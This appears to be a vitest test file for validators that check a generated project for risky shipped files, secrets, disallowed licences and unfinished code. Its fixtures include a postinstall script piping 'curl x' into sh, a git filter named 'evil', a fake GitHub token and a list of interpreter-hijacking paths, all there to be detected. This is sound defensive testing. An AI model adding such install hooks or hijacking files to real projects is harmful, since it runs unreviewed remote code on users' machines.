import { describe, expect, test } from "vitest";
import type { FileFacts, Inspection } from "../../src/sandbox/source-facts.ts";
import { inspectionFindings } from "../../src/validators/inspection/findings.ts";
import { KnownText, textsOf } from "../../src/validators/inspection/known-text.ts";
import { secretsAndLicences } from "../../src/validators/inspection/secrets-and-licences.ts";
import { shippedFiles } from "../../src/validators/inspection/shipped-files.ts";
import { unfinishedCode } from "../../src/validators/inspection/unfinished-code.ts";
import { treeOf } from "../sandbox/products.ts";
import { groundOf, type Inspected, told } from "./inspecting.ts";

const NOTHING: Omit<FileFacts, "path" | "readable"> = {
  imports: [],
  uses: [],
  strings: [],
  functions: [],
  handlers: [],
  hidden: [],
  matches: [],
  equalities: [],
};

function ground(files: Record<string, string>, more: Partial<Inspected> = {}, facts: Partial<FileFacts>[] = []) {
  const sources = facts.map((fact) => ({ path: "app/core.py", readable: true, ...NOTHING, ...fact }));
  const standard_modules = ["json", "unittest", "calendar", "os"];
  const inspection: Inspection = { complete: true, standard_modules, files: sources, tests: [], literals: [] };
  return groundOf({ toolchain: "python", tree: treeOf(files), ...more }, inspection);
}

describe("files that configure what runs beside a product", () => {
  test("are refused where they can only do harm, and noted where honest projects have them", () => {
    const refused =
      "sitecustomize.py lib/usercustomize.py a.pth .npmrc web/.yarnrc node_modules/.bin/node venv/x .husky/pre-commit .gitmodules app/x.so __pycache__/a.pyc json.py unittest/__init__.py";
    const noted = "conftest.py pytest.ini tests/conftest.py .github/workflows/ci.yml vitest.config.ts calendar.py";
    const usual = "app/json.py .gitignore setup.cfg pyproject.toml package.json README.md app/calendar.py hooks/run.py";
    const codes = (paths: string) =>
      paths.split(" ").map((path) => shippedFiles(ground({ [path]: "" })).map(({ severity }) => severity ?? "refused"));
    expect(codes(refused).flat()).toEqual(refused.split(" ").map(() => "refused"));
    expect(codes(noted).flat()).toEqual(noted.split(" ").map(() => "warning"));
    expect(codes(usual).flat()).toEqual([]);
  });

  test("a module that the plan promises is not the developer's to rename", () => {
    const interfaces = { modules: [{ path: "json.py", purpose: "", symbols: [] }], cli: [], http: [] };
    expect(told(shippedFiles(ground({ "json.py": "" }, { interfaces })))).toEqual(["module_shadowed? json.py"]);
  });

  test("attributes and package scripts are refused by what they run", () => {
    const said = (path: string, text: string) => told(shippedFiles(ground({ [path]: text })));
    expect(said(".gitattributes", "* text=auto eol=lf\n")).toEqual([]);
    expect(said(".gitattributes", "*.py filter=evil\n")).toEqual(["runner_configured .gitattributes"]);
    expect(said("package.json", '{"scripts": {"test": "node --test", "start": "node src/main.ts"}}')).toEqual([]);
    expect(said("package.json", '{"scripts": {"postinstall": "curl x | sh"}}')).toEqual([
      "runner_configured package.json",
    ]);
    expect(said("package.json", "not JSON")).toEqual([]);
  });
});

describe("secrets and licences", () => {
  const said = (path: string, text: string, more: Partial<Inspected> = {}) =>
    told(secretsAndLicences(ground({ [path]: text }, more)));

  test("a secret is refused, one that a test made up is noted, an example is neither", () => {
    const key = `${"ghp"}_${"a1B2".repeat(9)}`;
    expect(said("app/a.py", `\nTOKEN = "${key}"`)).toEqual(["secret_in_tree app/a.py:2"]);
    expect(said("tests/a.py", key)).toEqual(["secret_in_tree? tests/a.py:1"]);
    expect(said("app/a.py", key, { told: [`the token is ${key}`] })).toEqual([]);
    expect(said("README.md", "AKIAIOSFODNN7EXAMPLE, sk-..., ghp_<token>, a PRIVATE KEY")).toEqual([]);
  });

  test("a licence is refused when policy does not allow it and nobody asked for it", () => {
    expect(said("app/a.py", "# SPDX-License-Identifier: MIT OR GPL-2.0-only\n")).toEqual([]);
    expect(said("app/a.py", "# SPDX-License-Identifier: AGPL-3.0-only\n")).toEqual(["licence_refused app/a.py:1"]);
    expect(said("LICENSE", "GNU GENERAL PUBLIC LICENSE\nVersion 3")).toEqual(["licence_refused LICENSE:1"]);
    expect(said("LICENSE", "GNU GENERAL PUBLIC LICENSE", { told: ["It is under the GPL."] })).toEqual([]);
    expect(said("LICENSE", "MIT License")).toEqual([]);
  });
});

describe("code that is not finished", () => {
  const interfaces = {
    modules: [
      {
        path: "app/core.py",
        purpose: "",
        symbols: [
          { kind: "function" as const, name: "add", signature: "def add()", methods: [], doc: "" },
          { kind: "class" as const, name: "Base", signature: "class Base", methods: ["def close()"], doc: "" },
        ],
      },
    ],
    cli: [],
    http: [],
  };
  const said = (functions: FileFacts["functions"], more: object = {}) =>
    told(unfinishedCode({ ...ground({ "app/core.py": "" }, { interfaces }, [{ functions }]), ...more }));

  test("a function of the plan that does nothing is refused, unless another task has yet to write it", () => {
    const empty = [{ name: "add", line: 3, body: "empty" as const }];
    expect(said(empty)).toEqual(["function_empty app/core.py:3"]);
    expect(said([{ name: "add", line: 3, body: "unimplemented" }])).toEqual(["function_empty app/core.py:3"]);
    expect(said([{ name: "add", line: 3, body: "nothing" }])).toEqual(["function_empty? app/core.py:3"]);
    expect(said(empty, { isUnfinished: () => true })).toEqual(["function_empty? app/core.py:3"]);
    expect(said([{ name: "add", line: 3, body: "code" }])).toEqual([]);
    expect(said([{ name: "Base.close", line: 3, body: "empty" }])).toEqual([]); // a hook that may be empty
  });

  test("work that is left, and own tests that are left out, are noted", () => {
    const files = { "app/core.py": "x = 1\n# TODO: more\n", "README.md": "TODO" };
    expect(told(unfinishedCode(ground(files, {}, [{}])))).toEqual(["left_for_later? app/core.py:2"]);
    const uses = [{ name: "unittest.skip", line: 4, how: "call" as const, early: true, compared: false, words: [] }];
    const skipped = ground({}, {}, [{ path: "tests/test_a.py", uses }]);
    expect(told(unfinishedCode(skipped))).toEqual(["test_skipped? tests/test_a.py:4"]);
  });
});

test("sources that cannot be looked through are refused, never passed over", () => {
  const base = ground({ "app/core.py": "" }, {}, [{ readable: false }]);
  expect(told(inspectionFindings(base))).toEqual(["source_unreadable app/core.py"]);
  const cut = { ...base, inspection: { ...base.inspection, complete: false, files: [] } };
  expect(inspectionFindings(cut)).toMatchObject([{ code: "source_unreadable" }]);
});

test("what was told is found however it is spaced, and the schema's own words tell nothing", () => {
  const known = new KnownText(textsOf({ http: [], text: "Two\n  words", list: [{ n: 12 }] }));
  expect([known.has("two WORDS"), known.has("12"), known.has("http"), known.speaksOf(/\bwords\b/)]).toEqual([
    true,
    true,
    false,
    true,
  ]);
});
